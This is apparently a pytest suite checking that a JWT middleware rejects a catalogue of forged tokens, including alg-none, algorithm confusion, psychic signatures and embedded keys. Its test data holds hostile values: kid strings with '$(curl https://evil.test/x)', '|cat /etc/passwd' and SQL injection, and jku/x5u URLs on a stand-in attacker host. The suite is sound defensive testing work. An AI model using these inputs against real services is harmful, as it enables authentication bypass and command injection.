"""The JWT attack catalogue, through the real middleware: each row an attack and its answer.

Every row is sent as ``Authorization: Bearer <token>`` to a route that needs a token,
through ``JWTGateMiddleware`` over ``httpx.ASGITransport``, with keys served by
``Issuer.transport()``. Each answer is checked for its status and RFC 6750 error, a
well-formed challenge, no echo of the token (in the answer or the DEBUG logs) and no
fetch of anything but the issuer's own discovery document and JWKS.

Sources: RFC 8725 (JWT BCP), PortSwigger's JWT attacks, the OWASP JWT cheat sheet,
CVE-2022-21449 ("psychic signatures"), CVE-2015-9235 (alg confusion), CVE-2018-0114
(embedded ``jwk``), and PayloadsAllTheThings' JWT page; see docs/security.md.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Iterator

import pytest
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec

from jwtgate import Authenticator, AuthError
from jwtgate.testing import DevKey

from attack_builders import (
    P256_ORDER,
    Attack,
    _claims,
    _confused,
    _der,
    _ecdsa,
    _embedded,
    _header,
    _kid,
    _non_canonical,
    _none,
    _payload_json,
    _pem,
    _raw,
    _raw_header,
    _raw_payload,
    _truncated,
    _valid_es256,
)
from forge import (
    Kit,
    assert_answer,
    attacker,
    b64,
    debug_logs,
    forge,
    make_kit,
    sign,
    signature_of,
    unb64,
    with_payload,
    with_signature,
)

pytestmark = pytest.mark.anyio
kit = pytest.fixture(make_kit)
INVALID = (401, "invalid_token")

ATTACKS = [
    # -- alg "none" (RFC 8725 §2.1, §3.1) -------------------------------------------
    *(
        pytest.param(_none(spelling), *INVALID, id=f"alg-{spelling}-unsigned")
        for spelling in ("none", "None", "NONE", "nOnE")
    ),
    *(
        pytest.param(_none(spelling, b"sig"), *INVALID, id=f"alg-{spelling}-with-signature")
        for spelling in ("none", "None", "NONE", "nOnE")
    ),
    pytest.param(
        lambda k: forge({"alg": "none"}, k.claims(), b""), *INVALID, id="alg-none-no-kid-no-typ"
    ),
    pytest.param(
        lambda k: forge({"alg": "none", "kid": "rsa-1"}, k.claims(), b"")[:-1],
        *INVALID,
        id="alg-none-two-segments",
    ),
    pytest.param(
        lambda k: with_signature(forge({"alg": "none"}, k.claims()), signature_of(k.token())),
        *INVALID,
        id="alg-none-with-real-signature",
    ),
    # -- algorithm confusion: HS* keyed with the public key (CVE-2015-9235) ----------
    pytest.param(_confused(lambda k: _pem(k.rsa)), *INVALID, id="hs256-rsa-public-pem"),
    pytest.param(_confused(lambda k: _pem(k.rsa), kid=None), *INVALID, id="hs256-rsa-pem-no-kid"),
    pytest.param(
        _confused(lambda k: _pem(k.rsa).rstrip(b"\n")), *INVALID, id="hs256-rsa-pem-no-newline"
    ),
    pytest.param(
        _confused(lambda k: json.dumps(k.rsa.public_jwk).encode()), *INVALID, id="hs256-rsa-jwk"
    ),
    pytest.param(
        _confused(lambda k: unb64(k.rsa.public_jwk["n"])), *INVALID, id="hs256-rsa-modulus"
    ),
    pytest.param(_confused(lambda k: _pem(k.rsa), "HS384"), *INVALID, id="hs384-rsa-public-pem"),
    pytest.param(_confused(lambda k: _pem(k.rsa), "HS512"), *INVALID, id="hs512-rsa-public-pem"),
    pytest.param(_confused(lambda k: _pem(k.ec), kid="ec-1"), *INVALID, id="hs256-ec-public-pem"),
    pytest.param(
        _confused(lambda k: json.dumps(k.ed.public_jwk).encode(), kid="ed-1"),
        *INVALID,
        id="hs256-ed25519-jwk",
    ),
    # -- signature stripped, truncated, swapped; payload tampered -------------------
    pytest.param(lambda k: with_signature(k.token(), ""), *INVALID, id="signature-stripped"),
    pytest.param(lambda k: k.token().rsplit(".", 1)[0], *INVALID, id="signature-segment-gone"),
    pytest.param(lambda k: _truncated(k.token()), *INVALID, id="signature-truncated"),
    pytest.param(lambda k: k.token()[:-5], *INVALID, id="signature-cut-mid-group"),
    pytest.param(
        lambda k: with_signature(k.token(), signature_of(k.token())[:1]),
        *INVALID,
        id="signature-one-byte",
    ),
    pytest.param(
        lambda k: with_signature(k.token(), signature_of(k.token()) + b"\x00"),
        *INVALID,
        id="signature-extended",
    ),
    pytest.param(
        lambda k: with_signature(k.token(), bytes(256)), *INVALID, id="signature-all-zeros"
    ),
    pytest.param(
        lambda k: with_signature(
            k.token(), bytes(b ^ (i == 10) for i, b in enumerate(signature_of(k.token())))
        ),
        *INVALID,
        id="signature-one-bit-flipped",
    ),
    pytest.param(
        lambda k: with_signature(k.token(sub="mallory"), signature_of(k.token())),
        *INVALID,
        id="signature-from-another-token",
    ),
    # Regression: base64url with the unused trailing bits set decoded to the same bytes,
    # so a second spelling of a valid token was accepted (deny lists keyed on it missed).
    pytest.param(lambda k: _non_canonical(k.token()), *INVALID, id="signature-non-canonical"),
    pytest.param(
        lambda k: with_payload(k.token(), _payload_json(k, sub="admin")),
        *INVALID,
        id="payload-tampered-sub",
    ),
    pytest.param(
        lambda k: with_payload(k.token(), _payload_json(k, scope="items:read items:write")),
        *INVALID,
        id="payload-tampered-scope",
    ),
    pytest.param(
        lambda k: with_payload(k.token(), _payload_json(k, exp=k.now + 10**8)),
        *INVALID,
        id="payload-tampered-exp",
    ),
    pytest.param(
        lambda k: with_payload(k.token(), _payload_json(k) + " "),
        *INVALID,
        id="payload-tampered-whitespace",
    ),
    # -- ECDSA: psychic signatures (CVE-2022-21449) and bad encodings ----------------
    pytest.param(_ecdsa(lambda k, m: _raw(0, 0)), *INVALID, id="ecdsa-r0-s0"),
    pytest.param(_ecdsa(lambda k, m: _raw(P256_ORDER, P256_ORDER)), *INVALID, id="ecdsa-r-n-s-n"),
    pytest.param(_ecdsa(lambda k, m: _raw(1, 0)), *INVALID, id="ecdsa-r1-s0"),
    pytest.param(_ecdsa(lambda k, m: _raw(0, 1)), *INVALID, id="ecdsa-r0-s1"),
    pytest.param(_ecdsa(lambda k, m: _raw(P256_ORDER + 1, 1)), *INVALID, id="ecdsa-r-above-order"),
    pytest.param(_ecdsa(lambda k, m: b""), *INVALID, id="ecdsa-empty"),
    pytest.param(_ecdsa(lambda k, m: bytes(1)), *INVALID, id="ecdsa-one-zero-byte"),
    pytest.param(_ecdsa(_der), *INVALID, id="ecdsa-der-instead-of-raw"),
    pytest.param(_ecdsa(lambda k, m: _valid_es256(k, m)[:-1]), *INVALID, id="ecdsa-63-bytes"),
    pytest.param(_ecdsa(lambda k, m: _valid_es256(k, m) + b"\x00"), *INVALID, id="ecdsa-65-bytes"),
    pytest.param(
        _ecdsa(lambda k, m: b"\x00" + _valid_es256(k, m)), *INVALID, id="ecdsa-leading-zero"
    ),
    pytest.param(_ecdsa(lambda k, m: _raw(0, 0, 66)), *INVALID, id="ecdsa-es512-length"),
    pytest.param(
        _ecdsa(
            lambda k, m: attacker("ES256", "ec-1").private_key.sign(m, ec.ECDSA(hashes.SHA256()))
        ),
        *INVALID,
        id="ecdsa-attacker-key-der",
    ),
    pytest.param(
        lambda k: sign(k.header(k.ec), k.claims(), attacker("ES256", "ec-1")),
        *INVALID,
        id="ecdsa-attacker-key",
    ),
    pytest.param(lambda k: with_signature(k.token(k.ed), bytes(64)), *INVALID, id="eddsa-zeros"),
    pytest.param(
        lambda k: sign(k.header(k.ed), k.claims(), attacker("EdDSA", "ed-1")),
        *INVALID,
        id="eddsa-attacker-key",
    ),
    # -- keys offered by the token itself: never fetched, never trusted --------------
    pytest.param(
        _embedded("jwk", lambda k: attacker().public_jwk, kid=None), *INVALID, id="jwk-no-kid"
    ),
    pytest.param(_embedded("jwk", lambda k: attacker().public_jwk), *INVALID, id="jwk-victim-kid"),
    pytest.param(
        _embedded("jwk", lambda k: attacker().public_jwk, kid="attacker-1"),
        *INVALID,
        id="jwk-own-kid",
    ),
    pytest.param(
        _embedded("jku", lambda k: "https://evil.test/evil/jwks.json"), *INVALID, id="jku-remote"
    ),
    pytest.param(
        _embedded("jku", lambda k: "https://issuer.test/evil/jwks.json", kid="attacker-1"),
        *INVALID,
        id="jku-same-host",
    ),
    pytest.param(_embedded("x5u", lambda k: "https://evil.test/evil/cert.pem"), *INVALID, id="x5u"),
    pytest.param(
        _embedded("x5c", lambda k: [b64(b"\x30\x82attacker-certificate")], kid=None),
        *INVALID,
        id="x5c",
    ),
    pytest.param(
        _embedded("x5t", lambda k: b64(hashlib.sha1(b"cert").digest())),
        *INVALID,
        id="x5t",
    ),
    # -- kid: traversal, injection, wrong types, huge --------------------------------
    *(
        pytest.param(_kid(kid), *INVALID, id=f"kid-{name}")
        for name, kid in [
            ("path-traversal", "../../../../../../dev/null"),
            ("absolute-path", "/etc/passwd"),
            ("encoded-traversal", "..%2f..%2f..%2fetc%2fpasswd"),
            ("sql-injection", "x' UNION SELECT 'secret' --"),
            ("sql-or-true", "' OR '1'='1"),
            ("command-substitution", "$(curl https://evil.test/x)"),
            ("backticks", "`id`"),
            ("pipe", "rsa-1|cat /etc/passwd"),
            ("url", "https://evil.test/key.pem"),
            ("nul-byte", "rsa-1\x00"),
            ("case-changed", "RSA-1"),
            ("padded", " rsa-1 "),
            ("empty", ""),
            ("huge", "k" * 9000),
            ("unicode-lookalike", "rsа-1"),  # noqa: RUF001 (Cyrillic a, on purpose)
        ]
    ),
    *(
        pytest.param(_kid(kid), *INVALID, id=f"kid-{name}")
        for name, kid in [
            ("integer", 1),
            ("float", 1.5),
            ("boolean", True),
            ("list", ["rsa-1"]),
            ("object", {"kid": "rsa-1"}),
            ("null-attacker-key", None),
        ]
    ),
    # -- kid matching, key of another type (alg/kty/crv mismatch) -------------------
    pytest.param(
        lambda k: sign({"alg": "RS256", "kid": "ec-1"}, k.claims(), attacker()),
        *INVALID,
        id="rs256-with-ec-kid",
    ),
    pytest.param(
        lambda k: sign({"alg": "ES256", "kid": "rsa-1"}, k.claims(), attacker("ES256")),
        *INVALID,
        id="es256-with-rsa-kid",
    ),
    pytest.param(
        lambda k: sign({"alg": "EdDSA", "kid": "ec-1"}, k.claims(), attacker("EdDSA")),
        *INVALID,
        id="eddsa-with-ec-kid",
    ),
    pytest.param(
        lambda k: sign({"alg": "ES384", "kid": "ec-1"}, k.claims(), attacker("ES384")),
        *INVALID,
        id="es384-with-p256-kid",
    ),
    pytest.param(
        lambda k: sign({"alg": "PS256", "kid": "rsa-1"}, k.claims(), k.rsa, "PS256"),
        *INVALID,
        id="ps256-validly-signed-jwk-says-rs256",
    ),
    pytest.param(
        lambda k: sign({"alg": "RS512", "kid": "rsa-1"}, k.claims(), k.rsa, "RS512"),
        *INVALID,
        id="rs512-validly-signed-jwk-says-rs256",
    ),
    pytest.param(
        lambda k: sign({"alg": "ES256K", "kid": "ec-1"}, k.claims(), attacker("ES256")),
        *INVALID,
        id="es256k-not-allowed",
    ),
    pytest.param(_header(alg="rs256"), *INVALID, id="alg-lowercase"),
    pytest.param(_header(alg="RS256 "), *INVALID, id="alg-trailing-space"),
    pytest.param(_header(alg=["RS256"]), *INVALID, id="alg-list"),
    pytest.param(_header(alg=None), *INVALID, id="alg-missing"),
    # -- duplicate members: the signed bytes say one thing, a lax parser another ---
    pytest.param(
        _raw_header('{"alg":"none","alg":"RS256","kid":"rsa-1"}'), *INVALID, id="dup-header-alg"
    ),
    pytest.param(
        _raw_header('{"alg":"RS256","kid":"rsa-2","kid":"rsa-1"}'), *INVALID, id="dup-header-kid"
    ),
    pytest.param(
        _raw_header('{"alg":"RS256","\\u0061lg":"RS256","kid":"rsa-1"}'),
        *INVALID,
        id="dup-header-escaped",
    ),
    pytest.param(
        lambda k: _raw_payload(_payload_json(k)[:-1] + ', "sub": "admin"}')(k),
        *INVALID,
        id="dup-payload-sub",
    ),
    pytest.param(
        lambda k: _raw_payload(_payload_json(k)[:-1] + f', "exp": {k.now + 10**8}}}')(k),
        *INVALID,
        id="dup-payload-exp",
    ),
    pytest.param(
        lambda k: _raw_payload(_payload_json(k)[:-1] + ', "aud": "other"}')(k),
        *INVALID,
        id="dup-payload-aud",
    ),
    # -- hostile JSON, validly signed -------------------------------------------------
    # Regression: an integer beyond float range crashed the exp arithmetic (a 500).
    pytest.param(_claims(exp=10**400), *INVALID, id="exp-huge-integer"),
    pytest.param(_claims(exp=2**64), *INVALID, id="exp-beyond-int64"),
    pytest.param(_claims(nbf=-(10**400)), *INVALID, id="nbf-huge-negative-integer"),
    pytest.param(_claims(iat=-(10**400)), *INVALID, id="iat-huge-negative-integer"),
    pytest.param(
        lambda k: _raw_payload(_payload_json(k, exp=None)[:-1] + ', "exp": ' + "9" * 4400 + "}")(k),
        *INVALID,
        id="exp-4400-digits",
    ),
    pytest.param(
        lambda k: _raw_payload(_payload_json(k, exp=None)[:-1] + ', "exp": 1e400}')(k),
        *INVALID,
        id="exp-float-overflow",
    ),
    *(
        pytest.param(
            lambda k, c=constant: _raw_payload(_payload_json(k, exp=None)[:-1] + f', "exp": {c}}}')(
                k
            ),
            *INVALID,
            id=f"exp-{constant}",
        )
        for constant in ("NaN", "Infinity", "-Infinity")
    ),
    pytest.param(
        _raw_payload('{"a":' + "[" * 3000 + "]" * 3000 + "}"), *INVALID, id="payload-deep-nesting"
    ),
    pytest.param(
        _raw_header('{"alg":"RS256","x":' + "{" * 3000 + "}" * 3000 + "}"),
        *INVALID,
        id="header-deep-nesting",
    ),
    *(
        pytest.param(_raw_payload(text), *INVALID, id=f"payload-{name}")
        for name, text in [
            ("array", "[1,2]"),
            ("string", '"sub"'),
            ("number", "1"),
            ("null", "null"),
            ("true", "true"),
            ("empty", ""),
            ("not-utf8", b'{"sub":"\xff"}'),
            ("utf8-bom", b'\xef\xbb\xbf{"sub":"a"}'),
            ("utf16", '{"sub":"a"}'.encode("utf-16")),
            ("cesu8-surrogate", b'{"sub":"\xed\xa0\x80"}'),
            ("overlong-utf8", b'{"sub":"\xc0\xaf"}'),
            ("raw-control-character", '{"sub":"a\x01b"}'),
            ("trailing-garbage", '{"sub":"a"} x'),
            ("two-objects", '{"sub":"a"}{"sub":"b"}'),
            ("single-quotes", "{'sub':'a'}"),
            ("comment", '{"sub":"a" /* x */}'),
        ]
    ),
    *(
        pytest.param(_raw_header(text), *INVALID, id=f"header-{name}")
        for name, text in [
            ("array", '["RS256"]'),
            ("string", '"RS256"'),
            ("null", "null"),
            ("number", "256"),
        ]
    ),
    # Regression: a lone surrogate escape made a str the application could not encode.
    pytest.param(_claims(sub="\ud800"), *INVALID, id="sub-lone-surrogate"),
    pytest.param(_header(kid="\udfff"), *INVALID, id="kid-lone-surrogate"),
    # -- JWE and nested JWTs where a JWS is expected ----------------------------------
    pytest.param(
        lambda k: ".".join(
            [
                b64('{"alg":"RSA-OAEP-256","enc":"A256GCM"}'),
                b64(bytes(256)),
                b64(bytes(12)),
                b64(b"ciphertext"),
                b64(bytes(16)),
            ]
        ),
        *INVALID,
        id="jwe-five-segments",
    ),
    pytest.param(
        lambda k: ".".join([b64('{"alg":"dir","enc":"A256GCM"}'), "", b64(bytes(12)), "YQ", "YQ"]),
        *INVALID,
        id="jwe-dir-empty-key",
    ),
    pytest.param(
        lambda k: sign(k.header(cty="JWT"), k.token().encode(), k.rsa),
        *INVALID,
        id="nested-jwt-cty",
    ),
    pytest.param(
        lambda k: sign(k.header(cty="JWT"), k.claims(), k.rsa), *INVALID, id="cty-jwt-json-payload"
    ),
    pytest.param(_header(cty="application/json"), *INVALID, id="cty-json"),
    # -- crit: unknown and b64 extensions (RFC 7515 §4.1.11, RFC 7797) ---------------
    pytest.param(_header(crit=["exp"], exp=0), *INVALID, id="crit-unknown"),
    pytest.param(_header(crit=["b64"], b64=False), *INVALID, id="crit-b64-false"),
    pytest.param(_header(crit=["b64"], b64=True), *INVALID, id="crit-b64-true"),
    pytest.param(_header(crit=[]), *INVALID, id="crit-empty"),
    pytest.param(_header(crit="b64"), *INVALID, id="crit-string"),
    # -- typ confusion (RFC 8725 §3.11) -----------------------------------------------
    *(
        pytest.param(_header(typ=typ), *INVALID, id=f"typ-{name}")
        for name, typ in [
            ("jose-json", "JOSE+JSON"),
            ("jose", "JOSE"),
            ("dpop-proof", "dpop+jwt"),
            ("secevent", "secevent+jwt"),
            ("logout", "logout+jwt"),
            ("id-token", "id_token+jwt"),
            ("integer", 1),
            ("list", ["at+jwt"]),
        ]
    ),
    # -- issuer and audience confusion, claim types ------------------------------------
    pytest.param(_claims(aud="another-api"), *INVALID, id="aud-other"),
    pytest.param(_claims(aud=["another-api", "third-api"]), *INVALID, id="aud-list-others"),
    pytest.param(_claims(aud=[]), *INVALID, id="aud-empty-list"),
    pytest.param(_claims(aud=None), *INVALID, id="aud-missing"),
    pytest.param(_claims(aud="API://TEST"), *INVALID, id="aud-case"),
    pytest.param(_claims(aud="api://test/"), *INVALID, id="aud-trailing-slash"),
    pytest.param(_claims(aud=["api://test", 1]), *INVALID, id="aud-list-with-non-string"),
    pytest.param(_claims(aud={"api://test": True}), *INVALID, id="aud-object"),
    pytest.param(_claims(iss="https://evil.test"), *INVALID, id="iss-other"),
    pytest.param(_claims(iss="https://issuer.test/"), *INVALID, id="iss-trailing-slash"),
    pytest.param(_claims(iss="https://ISSUER.test"), *INVALID, id="iss-case"),
    pytest.param(_claims(iss="https://issuer.test.evil.test"), *INVALID, id="iss-suffix"),
    pytest.param(_claims(iss=["https://issuer.test"]), *INVALID, id="iss-list"),
    pytest.param(_claims(iss=None), *INVALID, id="iss-missing"),
    pytest.param(_claims(exp="9999999999"), *INVALID, id="exp-string"),
    pytest.param(_claims(exp=True), *INVALID, id="exp-boolean"),
    pytest.param(_claims(exp=None), *INVALID, id="exp-missing"),
    pytest.param(_claims(exp=[9999999999]), *INVALID, id="exp-list"),
    pytest.param(lambda k: k.token(exp=k.now - 3600), *INVALID, id="exp-past"),
    pytest.param(lambda k: k.token(nbf=k.now + 3600), *INVALID, id="nbf-future"),
    pytest.param(lambda k: k.token(iat=k.now + 3600), *INVALID, id="iat-future"),
    pytest.param(_claims(nbf="0"), *INVALID, id="nbf-string"),
    pytest.param(_claims(iat=False), *INVALID, id="iat-boolean"),
]


def _header_strings(token: str) -> list[str]:
    """Attacker-chosen strings in the token's header, to check that none is echoed."""
    try:
        header = json.loads(unb64(token.split(".", maxsplit=1)[0]))
    except (ValueError, IndexError):
        return []
    if not isinstance(header, dict):
        return []
    values = [v for v in header.values() if isinstance(v, str)]
    return [v for v in values if len(v) >= 8 and v.isprintable()]


@pytest.mark.parametrize(("attack", "status", "error"), ATTACKS)
async def test_attack_is_refused(
    kit: Kit, caplog: pytest.LogCaptureFixture, attack: Attack, status: int, error: str
) -> None:
    debug_logs(caplog)
    token = attack(kit)
    response = await kit.send(token)
    assert_answer(
        response,
        status,
        error,
        secrets=[token, *_header_strings(token)],
        caplog=caplog,
        issuer=kit.issuer,
    )


async def test_the_untampered_token_passes(kit: Kit) -> None:
    """The control row: everything the attacks start from is accepted as it is."""
    for key in (kit.rsa, kit.ec, kit.ed):
        response = await kit.send(kit.token(key))
        assert response.status_code == 200, response.text
    assert (await kit.send(sign(kit.header(kid=None), kit.claims(), kit.rsa))).status_code == 200


async def test_no_embedded_key_or_url_is_ever_fetched(kit: Kit) -> None:
    evil = attacker()
    for member, value in [
        ("jku", "https://evil.test/evil/jwks.json"),
        ("x5u", "https://evil.test/evil/cert.pem"),
        ("jwk", evil.public_jwk),
    ]:
        for kid in ("rsa-1", "attacker-1", None):
            header = {"alg": "RS256", member: value} | ({"kid": kid} if kid else {})
            response = await kit.send(sign(header, kit.claims(), evil))
            assert response.status_code == 401
            assert set(kit.issuer.requests) <= {
                "/.well-known/openid-configuration",
                "/.well-known/jwks.json",
            }


async def test_descriptions_are_fixed_sentences(kit: Kit) -> None:
    """Whatever the attack, the description comes from a small set of fixed, plain sentences."""
    descriptions = set()
    for row in ATTACKS:
        attack = row.values[0]
        response = await kit.send(attack(kit))  # type: ignore[operator]
        descriptions.add(response.json()["error_description"])
    assert len(descriptions) <= 40, descriptions
    for text in descriptions:
        assert text.isascii()
        assert text.isprintable()
        assert text.endswith(".")
        assert len(text) <= 100


async def test_ecdsa_high_s_twin_is_accepted_as_documented(kit: Kit) -> None:
    """Known, spec-conformant malleability (docs/security.md): (r, n - s) verifies like (r, s).

    Issuers emit either form, so refusing one would refuse valid tokens; a deny list must
    therefore key on ``jti``, never on the token string.
    """
    token = kit.token(kit.ec)
    raw = signature_of(token)
    s = int.from_bytes(raw[32:], "big")
    twin = with_signature(token, raw[:32] + (P256_ORDER - s).to_bytes(32, "big"))
    assert twin != token
    assert (await kit.send(twin)).status_code == 200


@pytest.fixture(scope="module")
def sync_authenticator(rsa_key: DevKey, ec_key: DevKey, ed_key: DevKey) -> Iterator[Authenticator]:
    issuer = make_kit(rsa_key, ec_key, ed_key).issuer
    authenticator = Authenticator(issuer.settings(), sync_transport=issuer.transport())
    yield authenticator
    authenticator.close()


@pytest.mark.parametrize(("attack", "status", "error"), ATTACKS)
def test_attack_is_refused_by_the_sync_face(
    kit: Kit, sync_authenticator: Authenticator, attack: Attack, status: int, error: str
) -> None:
    """The same table through ``Authenticator.authenticate_sync`` (the WSGI and CLI path)."""
    with pytest.raises(AuthError) as info:
        sync_authenticator.authenticate_sync(attack(kit))
    assert (info.value.status_code, info.value.error) == (status, error)
    assert sync_authenticator.authenticate_sync(kit.token()).subject == "alice"
